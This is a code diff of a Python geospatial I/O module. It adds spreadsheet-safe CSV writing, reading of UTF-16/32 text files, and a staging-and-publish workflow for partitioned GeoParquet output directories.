+    ``raw``, every text cell and column name goes through :func:`spreadsheet_safe`, so that a report
+    sentence such as ``=HYPERLINK(...)`` opens in a spreadsheet as text, not as a live formula.
+    ``header=False`` leaves out the line of column names (for writing a table block by block).
+
+    >>> import pandas as pd
+    >>> print(csv_text(pd.DataFrame({"name": ["Sarmin", "=1+2"], "lon": [36.725, -0.5]})), end="")
+    name,lon
+    Sarmin,36.725000
+    '=1+2,-0.500000
+    >>> print(csv_text(pd.DataFrame({"name": ["=1+2", "a\\rb"]}), raw=True, header=False), end="")
+    =1+2
+    "a\rb"
+    """
+    import pandas as pd
+
+    df = table if isinstance(table, pd.DataFrame) else pd.DataFrame(table)
+    cols = [_csv_column(df.iloc[:, i]) for i in range(df.shape[1])]
+    if not raw:
+        cols = [c if pd.api.types.is_numeric_dtype(df.iloc[:, i].dtype) else [spreadsheet_safe(v) for v in c]
+                for i, c in enumerate(cols)]
+    lines = [_csv_line([str(c) if raw else spreadsheet_safe(str(c)) for c in df.columns])] if header else []
+    lines += [_csv_line(row) for row in zip(*cols, strict=True)]
+    return "".join(lines)
+
+
+_CSV_QUOTE = re.compile(r'[",\r\n]')
+
+
+def _csv_line(fields) -> str:
+    """One CSV line (RFC 4180 quoting; a lone empty field is written ``""``, as the csv module does)."""
+    if len(fields) == 1 and fields[0] == "":
+        return '""\n'
+    return ",".join(f'"{f.replace(chr(34), chr(34) * 2)}"' if _CSV_QUOTE.search(f) else f for f in fields) + "\n"
 
 
 def read_geometries(path: str | os.PathLike, what: str = "layer", columns: list[str] | None = None):
@@ -333,15 +749,19 @@ def read_geometries(path: str | os.PathLike, what: str = "layer", columns: list[
 
     p = _require_file(path, what)
     try:
+        source = _gdal_source(p, what)
         wanted = []
         if columns:
             lower = {c.lower() for c in columns}
-            wanted = [f for f in pyogrio.read_info(p)["fields"] if str(f).lower() in lower]
-        meta, _, wkb, values = pyogrio.raw.read(p, columns=wanted)
+            info = pyogrio.read_info(source)
+            wanted = [f for f in info["fields"] if str(f).lower() in lower]
+            if hasattr(source, "seek"):
+                source.seek(0)
+        meta, _, wkb, values = pyogrio.raw.read(source, columns=wanted)
+    except GeoIdlibError:
+        raise
     except Exception as exc:  # pyogrio raises DataSourceError and friends
-        first = str(exc).strip().splitlines()[0] if str(exc).strip() else type(exc).__name__
-        raise InputError(f"{p}: cannot read as a {what} ({first}); give a GeoJSON, GeoPackage, Shapefile, "
-                         "FlatGeobuf, GeoParquet or KML file") from None
+        raise _unreadable_layer(p, what, exc) from None
     geoms = shapely.from_wkb(wkb) if wkb is not None else None
     return geoms, meta.get("crs"), dict(zip(list(meta["fields"]), values, strict=True))
 
@@ -361,15 +781,6 @@ def open_sqlite(path: str | os.PathLike, readonly: bool = False, timeout: float 
         return sqlite3.connect(f"file:{Path(path).as_posix()}?mode=ro", uri=True, check_same_thread=False,
                                timeout=timeout)
     return sqlite3.connect(str(path), check_same_thread=False, timeout=timeout)
-
-
-def temp_path_beside(path: str | os.PathLike) -> Path:
-    """A fresh, not yet existing temporary path in the directory of ``path``."""
-    p = Path(path)
-    fd, tmp = tempfile.mkstemp(prefix=f".{p.stem}.", suffix=f".tmp{p.suffix}", dir=p.parent)
-    os.close(fd)
-    os.unlink(tmp)
-    return Path(tmp)
 
 
 def move_into_place(tmp: str | os.PathLike, path: str | os.PathLike) -> Path:
@@ -394,13 +805,21 @@ def read_text_file(path: str | os.PathLike, what: str = "file") -> str:
 
 
 def iter_text_lines(path: str | os.PathLike, what: str = "file", max_line_bytes: int = 1 << 20) -> Iterator[str]:
-    """The lines of a UTF-8 input file, streamed (each with its ``\\n``; a BOM is dropped).
+    """The lines of a text input file, streamed (each with its ``\\n``; a byte-order mark is dropped).
 
+    UTF-8, or UTF-8/16/32 with a byte-order mark (spreadsheets save "Unicode text" as UTF-16).
     Memory stays bounded by ``max_line_bytes`` whatever the file size. A missing file fails at once;
-    binary data, non-UTF-8 bytes and over-long lines fail when the reader reaches them, with a
+    binary data, undecodable bytes and over-long lines fail when the reader reaches them, with a
     one-line :class:`InputError` naming the file and the line.
     """
     p = _require_file(path, what)
+    with p.open("rb") as f:
+        head = f.read(65536)
+    codec, enc = text_encoding(head[:4])
+    if enc != "UTF-8":
+        return _wide_text_lines(p, codec, enc, what, max_line_bytes)
+    if b"\x00" in head:
+        raise _not_text(str(p), head, what)
     return _text_lines(p, what, max_line_bytes)
 
 
@@ -421,6 +840,20 @@ def _text_lines(p: Path, what: str, max_line_bytes: int) -> Iterator[str]:
                                  f"re-save the {what} as UTF-8") from None
             offset += len(raw)
             yield line
+
+
+def _wide_text_lines(p: Path, codec: str, enc: str, what: str, max_line_bytes: int) -> Iterator[str]:
+    """The lines of UTF-16/32 text (a byte-order mark first), decoded."""
+    with open(p, encoding=codec, newline="") as f:
+        lineno = 0
+        try:
+            for lineno, line in enumerate(iter(lambda: f.readline(max_line_bytes + 1), ""), start=1):
+                if len(line) > max_line_bytes:
+                    raise InputError(f"{p}: line {lineno} is longer than {max_line_bytes >> 20} MB; "
+                                     f"not a text {what}? Give a GeoNames dump or a CSV")
+                yield line
+        except UnicodeDecodeError:
+            raise InputError(f"{p}: not {enc} text (after line {lineno}); re-save the {what} as UTF-8") from None
 
 
 def copy_file(src: str | os.PathLike, dst: str | os.PathLike) -> Path:
@@ -485,11 +918,16 @@ def shapefile_layer(name: str):
 
 
 def temp_html_file(text: str, directory: str | os.PathLike | None = None) -> Path:
-    """Write ``text`` to a new temporary ``.html`` file (for loading it into a headless browser)."""
-    fd, tmp = tempfile.mkstemp(prefix="geo_idlib_", suffix=".html", dir=directory)
-    with os.fdopen(fd, "w", encoding="utf-8") as f:
+    """Write ``text`` to a new temporary ``.html`` file (for loading it into a headless browser).
+
+    It goes to ``directory`` (default: the cache dir) under a name of this process
+    (:func:`temp_path_beside`), so a run killed before it removes the file leaves it to the next run
+    to remove (:func:`remove_stale_temps`).
+    """
+    tmp = temp_path_beside(Path(directory if directory is not None else cache_dir()) / "map.html")
+    with open(tmp, "x", encoding="utf-8") as f:
         f.write(text)
-    return Path(tmp)
+    return tmp
 
 
 def remove_temp_file(path: str | os.PathLike) -> None:
@@ -521,6 +959,8 @@ _GLOB_CHARS = set("*?[")
 #: (a leading ``_`` or ``.`` makes Parquet readers such as pyarrow and dask skip them).
 MANIFEST_NAME = "_manifest.json"
 STAGING_NAME = "_staging"
+#: Where, in the staging area, a run writes its partitions until it publishes them.
+PARTS_NAME = "parts"
 
 
 @dataclasses.dataclass(frozen=True)
@@ -531,7 +971,8 @@ class Piece:
     ``start:stop`` of the file, cut at line starts; ``header`` is the CSV's header line), ``ogr``
     (features ``start:stop`` of a GDAL layer), ``text`` (the report files ``paths``) or ``bad``
     (a file that could not even be planned; reading it raises ``error``). ``name`` says which in
-    messages, e.g. ``events.csv [bytes 0-67108864)``.
+    messages, e.g. ``events.csv [bytes 0-67108864)``. ``encoding`` is the codec of a text piece
+    (:func:`text_encoding`: UTF-8, or UTF-16/32 with a byte-order mark, then read whole).
     """
 
     name: str
@@ -542,6 +983,7 @@ class Piece:
     paths: tuple = ()
     header: bytes = b""
     error: str = ""
+    encoding: str = "utf-8"
 
 
 def expand_inputs(args, what: str, suffixes: tuple[str, ...] | None = None) -> list[Path]:
@@ -550,9 +992,9 @@ def expand_inputs(args, what: str, suffixes: tuple[str, ...] | None = None) -> l
 
     >>> import tempfile; d = Path(tempfile.mkdtemp())
     >>> for n in ("b.txt", "a.txt", ".hidden"): _ = (d / n).write_text("x")
-    >>> [p.name for p in expand_inputs([str(d)], "reports")]
+    >>> [p.name for p in expand_inputs([str(d)], "report file")]
     ['a.txt', 'b.txt']
-    >>> [p.name for p in expand_inputs([str(d / "*.txt")], "reports")]
+    >>> [p.name for p in expand_inputs([str(d / "*.txt")], "report file")]
     ['a.txt', 'b.txt']
     """
     import glob
@@ -563,14 +1005,14 @@ def expand_inputs(args, what: str, suffixes: tuple[str, ...] | None = None) -> l
         if _GLOB_CHARS & set(s) and not Path(s).exists():
             found = sorted(Path(m) for m in glob.glob(s, recursive=True) if Path(m).is_file())
             if not found:
-                raise InputFileNotFound(f"{s}: no file matches this pattern; check the {what} path")
+                raise InputFileNotFound(f"{s}: no file matches this pattern; check the path of the {what}s")
             out.extend(found)
         elif Path(s).is_dir():
             found = sorted(p for p in Path(s).rglob("*") if p.is_file()
                            and not any(part.startswith((".", "_")) for part in p.relative_to(s).parts)
                            and (suffixes is None or p.suffix.lower() in suffixes))
             if not found:
-                raise InputError(f"{s}: the directory holds no {what}; give a directory of files")
+                raise InputError(f"{s}: the directory holds no {what}s; give a directory of files")
             out.extend(found)
         else:
             out.append(_require_file(s, what))
@@ -592,15 +1034,22 @@ def _line_cuts(path: Path, size: int, piece_bytes: int, first: int) -> list[int]
 
 
 def _byte_pieces(path: Path, kind: str, piece_bytes: int) -> list[Piece]:
-    """Line-aligned byte ranges of a CSV (its header line kept aside) or a JSON Lines file."""
+    """Line-aligned byte ranges of a CSV (its header line kept aside) or a JSON Lines file. Text
+    in UTF-16/32 (a byte-order mark first) is one piece, read whole; an empty file is a bad piece."""
     size = path.stat().st_size
-    header = b""
-    if kind == "csv":
-        with path.open("rb") as f:
-            header = f.readline()
+    if size == 0:
+        return [Piece(str(path), "bad", str(path), error="the file is empty")]
+    with path.open("rb") as f:
+        head = f.read(4)
+        f.seek(0)
+        header = f.readline() if kind == "csv" else b""
+    codec, enc = text_encoding(head)
+    if enc in ("UTF-16", "UTF-32"):  # lines cannot be cut as bytes; decoded whole by the reader
+        return [Piece(str(path), kind, str(path), 0, size, encoding=codec)]
     cuts = _line_cuts(path, size, piece_bytes, len(header))
-    return [Piece(f"{path} [bytes {a}-{b})", kind, str(path), a, b, header=header)
-            for a, b in zip(cuts, cuts[1:], strict=False) if b > a]
+    pieces = [Piece(f"{path} [bytes {a}-{b})", kind, str(path), a, b, header=header)
+              for a, b in zip(cuts, cuts[1:], strict=False) if b > a]
+    return pieces or [Piece(str(path), kind, str(path), size, size, header=header)]  # a header, no rows
 
 
 def _parquet_pieces(path: Path, piece_rows: int) -> list[Piece]:
@@ -630,11 +1079,6 @@ def _ogr_pieces(path: Path, piece_rows: int) -> list[Piece]:
         return [Piece(str(path), "bad", str(path), error=_first_line(exc))]
     return [Piece(f"{path} [features {a}-{min(a + piece_rows, n)})", "ogr", str(path), a, min(a + piece_rows, n))
             for a in range(0, max(n, 1), piece_rows)]
-
-
-def _first_line(exc: BaseException) -> str:
-    text = str(exc).strip()
-    return text.splitlines()[0] if text else type(exc).__name__
 
 
 def event_pieces(args, *, piece_rows: int, piece_bytes: int) -> list[Piece]:
@@ -671,7 +1115,7 @@ def document_pieces(args, *, piece_docs: int, piece_bytes: int) -> list[Piece]:
                                 "text", paths=batch))
         texts.clear()
 
-    for p in expand_inputs(args, "reports"):
+    for p in expand_inputs(args, "report file"):
         suffix = p.suffix.lower()
         if suffix in PARQUET_SUFFIXES or suffix in JSONL_SUFFIXES:
             flush()
@@ -731,9 +1175,11 @@ def read_piece(piece: Piece):
             return gpd.read_file(piece.path, engine="pyogrio", skip_features=piece.start,
                                  max_features=piece.stop - piece.start, datetime_as_string=True)
         if piece.kind == "csv":
+            import io as stdio
+
             sep = "\t" if Path(piece.path).suffix.lower() in (".tsv", ".txt") else ","
-            data = piece.header + _read_byte_range(piece)
-            return pd.read_csv(BytesIO(data), sep=sep, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+            text = decode_text(piece.header + _read_byte_range(piece), piece.name, "events table")
+            return pd.read_csv(stdio.StringIO(text), sep=sep, dtype=str, keep_default_na=False)
     except GeoIdlibError:
         raise
     except Exception as exc:  # parser and decoder errors of pyarrow, pyogrio, pandas
@@ -756,11 +1202,13 @@ def read_documents(piece: Piece):
         if piece.kind == "bad":
             raise ValueError(piece.error)
         if piece.kind == "jsonl":
-            lines = _read_byte_range(piece).decode("utf-8-sig").splitlines()
+            lines = decode_text(_read_byte_range(piece), piece.name, "documents file").splitlines()
             df = pd.DataFrame([json.loads(line) for line in lines if line.strip()])
         else:
             df = _read_parquet_rows(piece)
-    except Exception as exc:  # json, UTF-8 and Parquet errors
+    except GeoIdlibError:
+        raise
+    except Exception as exc:  # json and Parquet errors
         raise InputError(f"{piece.name}: cannot read these documents ({_first_line(exc)}); fix or remove "
                          "them, or pass --skip-bad to skip them") from None
     missing = [c for c in ("id", "text") if c not in df.columns]
@@ -774,59 +1222,112 @@ def read_documents(piece: Piece):
     return out
 
 
-def open_dataset_dir(path: str | os.PathLike, *, overwrite: bool = False, resume: bool = False) -> set[str]:
-    """Make ``path`` ready for a partitioned output; return the partitions already there.
+def dataset_output(output: str | os.PathLike | None, fmt: str | None = None) -> bool:
+    """Whether ``-o`` asks for a partitioned dataset rather than one file: it names a directory,
+    by a trailing ``/`` (``-o out/``) or by being one. A dataset is always GeoParquet, so a
+    ``--format`` other than ``parquet`` is refused; ``-o x.parquet`` is one GeoParquet file.
 
-    A missing directory is created (its parent must exist). One that holds partitions is refused
-    unless ``resume`` (they are kept and later skipped) or ``overwrite`` (partitions, manifest and
-    staging area are removed). Stale temporary files of an earlier run are removed; the staging
-    area (:data:`STAGING_NAME`) is created.
+    >>> dataset_output("out/"), dataset_output("out.parquet"), dataset_output(None)
+    (True, False, False)
+    >>> dataset_output("out/", "csv")
+    Traceback (most recent call last):
+    ...
+    geo_idlib.errors.InputError: -o out/: a directory receives partitioned GeoParquet; --format csv writes one file, give -o FILE.csv
     """
-    import shutil
+    if not output or str(output) == "-":
+        return False
+    s = str(output)
+    if not (s.endswith(("/", os.sep)) or Path(s).is_dir()):
+        return False
+    if fmt not in (None, "parquet"):
+        raise InputError(f"-o {s}: a directory receives partitioned GeoParquet; --format {fmt} writes one file, "
+                         f"give -o FILE.{fmt}")
+    return True
 
+
+def prepare_dataset_dir(path: str | os.PathLike) -> Path:
+    """The directory of a partitioned output, ready to write in: created if missing (its parent must
+    exist), tried with a file, cleared of the temporary files of dead writers (its own and its
+    staging area's, :func:`remove_stale_temps`). Nothing else in it is touched."""
     p = Path(path)
     if p.exists() and not p.is_dir():
-        raise OutputError(f"{p}: is a file; --format parquet writes a directory of partitions, give a directory for -o")
+        raise OutputError(f"{p}: is a file; a partitioned output is a directory, give one for -o (e.g. -o out/)")
     parent = p.parent if str(p.parent) else Path(".")
-    if not p.exists():
-        if not parent.exists():
-            raise OutputError(f"{p}: directory {parent} does not exist; create it first or choose another -o path")
-        p.mkdir()
-    if not os.access(p, os.W_OK):
-        raise OutputError(f"{p}: directory is not writable; choose another -o path")
-    done = {f.name for f in p.glob("*.parquet")}
-    if done and not (resume or overwrite):
-        raise OutputExists(f"{p}: already holds {len(done)} partition(s); pass --resume to finish the run, "
-                           "--overwrite to replace them, or choose another -o directory")
-    remove_temp_files(p)
-    if overwrite and not resume:
-        for f in p.glob("*.parquet"):
-            f.unlink()
-        remove_file(p / MANIFEST_NAME)
-        shutil.rmtree(p / STAGING_NAME, ignore_errors=True)
-        done = set()
-    (p / STAGING_NAME).mkdir(exist_ok=True)
-    return done
+    if not p.exists() and not parent.is_dir():
+        raise OutputError(f"{p}: directory {parent} does not exist; create it first or choose another -o path")
+    try:
+        p.mkdir(exist_ok=True)
+        _try_a_file(p / "probe")
+    except OSError as exc:
+        raise OutputError(f"{p}: cannot write in this directory ({exc.strerror}); choose another -o path") from None
+    remove_stale_temps(p, p / STAGING_NAME)
+    return p
+
+
+def staged_part(path: str | os.PathLike, name: str) -> Path:
+    """Where a run writes the partition ``name`` of the dataset ``path`` until it is published."""
+    return Path(path) / STAGING_NAME / PARTS_NAME / name
+
+
+def staged_parts(path: str | os.PathLike) -> set[str]:
+    """The partitions an unfinished run of the dataset ``path`` has written."""
+    return {f.name for f in (Path(path) / STAGING_NAME / PARTS_NAME).glob("*.parquet")}
+
+
+def partition_file(path: str | os.PathLike, name: str) -> Path:
+    """The file of the partition ``name`` of the dataset ``path``: staged by an unfinished run, else published."""
+    staged = staged_part(path, name)
+    return staged if staged.exists() else Path(path) / name
+
+
+def staged_work(path: str | os.PathLike) -> bool:
+    """Whether the staging area of the dataset ``path`` holds work of an unfinished run."""
+    return any((Path(path) / STAGING_NAME).rglob("*.parquet"))
+
+
+def make_staging(path: str | os.PathLike) -> Path:
+    """Create the staging area of the dataset ``path`` (where partitions wait to be published)."""
+    parts = Path(path) / STAGING_NAME / PARTS_NAME
+    parts.mkdir(parents=True, exist_ok=True)
+    return parts.parent
+
+
+def publish_dataset(path: str | os.PathLike, names, manifest_text: str) -> None:
+    """End a run of the dataset ``path``: its partitions ``names`` (staged, or already published
+    by an earlier run of it) become the dataset, every other partition goes, the manifest is
+    written and the staging area removed.
+
+    Until this moment the earlier dataset is untouched, so a run stopped by bad input (or
+    anything else) never leaves a mix. The old manifest goes first: should this step itself be
+    cut short, the directory claims no finished run and ``--resume`` redoes what is missing.
+    """
+    p = Path(path)
+    keep = set(names)
+    remove_file(p / MANIFEST_NAME)
+    for f in p.glob("*.parquet"):
+        if f.name not in keep:
+            remove_file(f)
+    for name in sorted(staged_parts(p) & keep):
+        os.replace(staged_part(p, name), p / name)
+    write_text(p / MANIFEST_NAME, manifest_text, overwrite=True)
+    remove_tree(p / STAGING_NAME)
+    remove_stale_temps(p)
+
+
+def parquet_rows(path: str | os.PathLike) -> int:
+    """Rows of a Parquet file, from its footer."""
+    import pyarrow.parquet as pq
+
+    return int(pq.ParquetFile(path).metadata.num_rows)
 
 
 def write_partition(gdf, path: str | os.PathLike, *, row_group_size: int | None = None) -> Path:
-    """Atomically write one partition as GeoParquet: the file is complete or absent.
-
-    An existing file is replaced (a re-run task writes the same rows). Columns with no value at
-    all are written as text, so that every partition of a dataset has the same schema."""
+    """Atomically write one partition of a dataset as GeoParquet (:func:`geoparquet_into`): the
+    file is complete or absent. An existing file is replaced (a re-run task writes the same rows)."""
     if gdf.crs is None:
         raise OutputError(f"{path}: refusing to write a layer without a CRS")
-    import pandas as pd
-
-    out = gdf.copy()
-    epsg = out.crs.to_epsg()
-    if epsg is not None:  # the CRS as this process's PROJ writes its code, whatever it was read from
-        out = out.set_crs(f"EPSG:{epsg}", allow_override=True)
-    for col in out.columns:
-        if col != out.geometry.name and out[col].dtype == object and out[col].isna().all():
-            out[col] = pd.Series(pd.NA, index=out.index, dtype="string")
     with atomic_output(path, overwrite=True) as tmp:
-        out.to_parquet(tmp, index=False, row_group_size=row_group_size)
+        geoparquet_into(gdf, tmp, row_group_size=row_group_size)
     return Path(path)
 
 
@@ -864,12 +1365,6 @@ def read_parquet_column(path: str | os.PathLike, column: str):
 def dataset_files(path: str | os.PathLike) -> list[Path]:
     """The partitions of a partitioned output directory, sorted by name."""
     return sorted(Path(path).glob("*.parquet"))
-
-
-def remove_temp_files(directory: str | os.PathLike) -> None:
-    """Remove the temporary files :func:`atomic_output` left in ``directory`` (a killed writer's)."""
-    for tmp in Path(directory).glob(".*.tmp*"):
-        remove_file(tmp)
 
 
 def remove_tree(path: str | os.PathLike) -> None:
